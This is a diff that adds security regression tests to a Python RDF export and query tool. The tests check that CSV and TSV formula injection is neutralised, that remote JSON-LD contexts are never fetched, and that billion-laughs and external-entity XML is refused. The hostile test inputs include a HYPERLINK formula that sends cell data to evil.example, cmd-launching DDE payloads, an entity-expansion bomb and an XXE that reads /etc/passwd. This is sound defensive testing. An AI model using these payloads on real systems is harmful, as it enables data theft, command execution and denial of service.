@@ -5,6 +5,8 @@ Each test reproduces a failure seen on the code before the fix (traceback, hang,
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -432,3 +434,193 @@ def test_clean_escapes_every_control_character():
         out = clean(f"a{c}b")
         assert out.isprintable() and out.startswith("a\\") and out.endswith("b"), repr(out)
     assert clean("Côte d'Ivoire — 🌍") == "Côte d'Ivoire — 🌍"
+
+
+# ---------------------------------------------------------------- exports safe for their readers
+
+DG_NS = "https://w3id.org/diplograph/ontology#"
+SKOS_LABEL = "http://www.w3.org/2004/02/skos/core#prefLabel"
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+def _hostile_nt(path: Path) -> Path:
+    lines = []
+    for i, text in enumerate([*FORMULAS, "Evil\x01\x08\x0b\x1b[31m\x7f\ufffeState", "-3.5", "+44", "12"]):
+        s = f"<https://w3id.org/diplograph/id/state/S{i:02d}>"
+        esc = json.dumps(text, ensure_ascii=True)  # N-Triples accepts the same \\uXXXX escapes
+        lines.append(f"{s} <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <{DG_NS}State> .")
+        lines.append(f"{s} <{SKOS_LABEL}> {esc}@en .")
+        lines.append(f"{s} <{DG_NS}evidence> <https://w3id.org/diplograph/id/mention/m{i}> .")
+    path.write_text("\n".join(lines) + "\n")
+    return path
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
+    nt = _hostile_nt(tmp_path / "h.nt")
+    for how in ("query", "export"):
+        if how == "query":
+            r = CliRunner().invoke(main, ["query", "states", "--data", str(nt), "-f", "csv"])
+            assert r.exit_code == 0, r.output
+            rows = list(csv.reader(io.StringIO(r.stdout, newline="")))[1:]
+        else:
+            export_dir = tmp_path / "csv"
+            CliRunner().invoke(main, ["export", "--data", str(nt), "-f", "csv", "--out", str(export_dir)])
+            with open(export_dir / "states.csv", newline="", encoding="utf-8") as fh:
+                rows = list(csv.reader(fh))[1:]
+        cells = [row[0] for row in rows]
+        for f in FORMULAS:
+            assert "'" + f.replace("\r", "\n") in cells, (f, cells)
+        assert not [c for c in cells if c[:1] in "=+-@\t\r" and c not in ("-3.5", "+44")], cells
+        assert "-3.5" in cells and "12" in cells  # plain numbers stay numbers
+
+
+def test_tsv_is_neutralised_too(tmp_path):
+    nt = _hostile_nt(tmp_path / "h.nt")
+    r = CliRunner().invoke(main, ["query", "states", "--data", str(nt), "-f", "tsv"])
+    assert r.exit_code == 0
+    cells = [row[0] for row in csv.reader(io.StringIO(r.stdout, newline=""), delimiter="\t")][1:]
+    assert len(cells) == len(FORMULAS) + 4
+    assert all(c.startswith("'") for c in cells if c[:1] in "=+-@\t\r" and c not in ("-3.5", "+44")) and cells
+
+
+@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
+def test_graphml_and_gexf_are_well_formed_whatever_the_text(tmp_path, fmt):
+    import xml.etree.ElementTree as ET
+
+    import networkx as nx
+
+    nt = _hostile_nt(tmp_path / "h.nt")
+    out = tmp_path / f"g.{fmt}"
+    r = CliRunner().invoke(main, ["export", "--data", str(nt), "-f", fmt, "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    ET.parse(out)  # a strict XML 1.0 parser: raises on any illegal character
+    g = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
+    labels = {d["label"] for _, d in g.nodes(data=True)}
+    assert "Evil[31m\x7fState" in labels and FORMULAS[0] in labels  # (DEL is legal in XML 1.0)
+
+
+def test_gexf_holds_no_date_and_exports_are_deterministic(seed_build, tmp_path):
+    import datetime as dt
+    import subprocess
+
+    out, _ = seed_build
+    code = ("import sys; from diplograph.export import export; "
+            "export([sys.argv[1]], sys.argv[2], sys.argv[3])")
+    blobs = {}
+    for fmt in ("gexf", "graphml"):
+        for seed in ("1", "2"):
+            target = tmp_path / f"{seed}.{fmt}"
+            env = dict(os.environ, PYTHONHASHSEED=seed, PYTHONPATH=str(ROOT / "src"))
+            subprocess.run([sys.executable, "-c", code, str(out / "g.ttl"), fmt, str(target)], check=True, env=env)
+            blobs[fmt, seed] = target.read_bytes()
+        assert blobs[fmt, "1"] == blobs[fmt, "2"], fmt
+    today = dt.date.today().isoformat().encode()
+    assert today not in blobs["gexf", "1"] and b"lastmodifieddate" not in blobs["gexf", "1"]
+
+
+class _Counting:
+    """A local HTTP server that counts what is asked of it (a remote JSON-LD context)."""
+
+    def __enter__(self):
+        import http.server
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802
+                hits.append(self.path)
+                body = json.dumps({"@context": {"name": "http://schema.org/name"}}).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "application/ld+json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+
+        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.srv.server_port}/context.jsonld"
+        return self
+
+    def __exit__(self, *exc):
+        self.srv.shutdown()
+        self.srv.server_close()
+
+
+def _commands(data: Path, tmp_path: Path) -> list[list[str]]:
+    d = str(data)
+    return [["export", "--data", d, "-f", "turtle", "--out", str(tmp_path / "o.ttl")],
+            ["export", "--data", d, "-f", "jsonld", "--out", str(tmp_path / "o.jsonld")],
+            ["export", "--data", d, "-f", "graphml", "--out", str(tmp_path / "o.graphml")],
+            ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", d],
+            ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", d, "--backend", "memory"],
+            ["validate", "--data", d],
+            ["viz", "--data", d, "--out", str(tmp_path / "o.html")],
+            ["push", "--data", d, "--endpoint", "http://127.0.0.1:9/store"]]
+
+
+@pytest.mark.parametrize("where", ["top", "nested", "import"])
+def test_remote_jsonld_context_is_never_fetched(tmp_path, where):
+    with _Counting() as srv:
+        doc = {"@context": srv.url, "@id": "http://x/a", "name": "A"}
+        if where == "nested":
+            doc = {"@context": {"x": "http://x/"}, "@graph": [{"@context": [srv.url], "@id": "http://x/b"}]}
+        elif where == "import":
+            doc = {"@context": {"@version": 1.1, "@import": srv.url}, "@id": "http://x/a"}
+        p = tmp_path / "remote.jsonld"
+        p.write_text(json.dumps(doc))
+        for args in _commands(p, tmp_path):
+            r = CliRunner().invoke(main, args)
+            assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (args, r.output)
+            assert "remote JSON-LD context" in r.output and len(r.output.strip().splitlines()) == 1, r.output
+        assert srv.hits == []
+
+
+def test_inline_jsonld_context_is_read(tmp_path, seed_build):
+    out, _ = seed_build
+    (j,) = __import__("diplograph.export", fromlist=["export"]).export([out / "g.ttl"], "jsonld", tmp_path / "g.jsonld")
+    r = CliRunner().invoke(main, ["query", "memberships", "--data", str(j), "-f", "csv"])
+    assert r.exit_code == 0 and len(r.stdout.splitlines()) > 5
+
+
+def _laughs(levels: int) -> str:
+    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
+                                      for i in range(1, levels + 1)]
+    return ('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + "\n".join(ents) + "\n]>\n"
+            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">\n'
+            f'<rdf:Description rdf:about="http://x/a"><ex:p>&lol{levels};</ex:p></rdf:Description>\n</rdf:RDF>\n')
+
+
+def test_billion_laughs_rdfxml_is_refused(tmp_path):
+    p = tmp_path / "laughs.rdf"
+    p.write_text(_laughs(7))  # 800 bytes that pyoxigraph expanded to 30 MB (9 levels: 3 GB)
+    assert p.stat().st_size < 2000
+    for args in _commands(p, tmp_path)[:-1]:
+        r = CliRunner().invoke(main, args)
+        assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (args, r.output)
+        assert "entit" in r.output and len(r.output.strip().splitlines()) == 1, r.output
+    assert not (tmp_path / "o.ttl").exists()
+
+
+@pytest.mark.parametrize("decl,why", [('<!ENTITY x SYSTEM "file:///etc/passwd">', "external"),
+                                      ('<!ENTITY % p "x">', "parameter"),
+                                      ('<!ENTITY x PUBLIC "-//x" "http://x/">', "external")])
+def test_external_and_parameter_entities_are_refused(tmp_path, decl, why):
+    p = tmp_path / "x.rdf"
+    p.write_text(f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ {decl} ]>\n'
+                 '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">'
+                 '<rdf:Description rdf:about="http://x/a"><ex:p>v</ex:p></rdf:Description></rdf:RDF>\n')
+    r = CliRunner().invoke(main, ["query", "SELECT * WHERE { ?s ?p ?o }", "--data", str(p)])
+    assert r.exit_code == 2 and why in r.output
+
+
+def test_plain_entities_as_in_owl_files_are_read(tmp_path):
+    p = tmp_path / "x.rdf"
+    p.write_text('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [ <!ENTITY ex "http://x/"> ]>\n'
+                 '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/">'
+                 '<rdf:Description rdf:about="&ex;a"><ex:p>v</ex:p></rdf:Description></rdf:RDF>\n')
+    r = CliRunner().invoke(main, ["query", "SELECT ?s WHERE { ?s ?p ?o }", "--data", str(p), "-f", "csv"])
+    assert r.exit_code == 0 and "http://x/a" in r.stdout, r.output
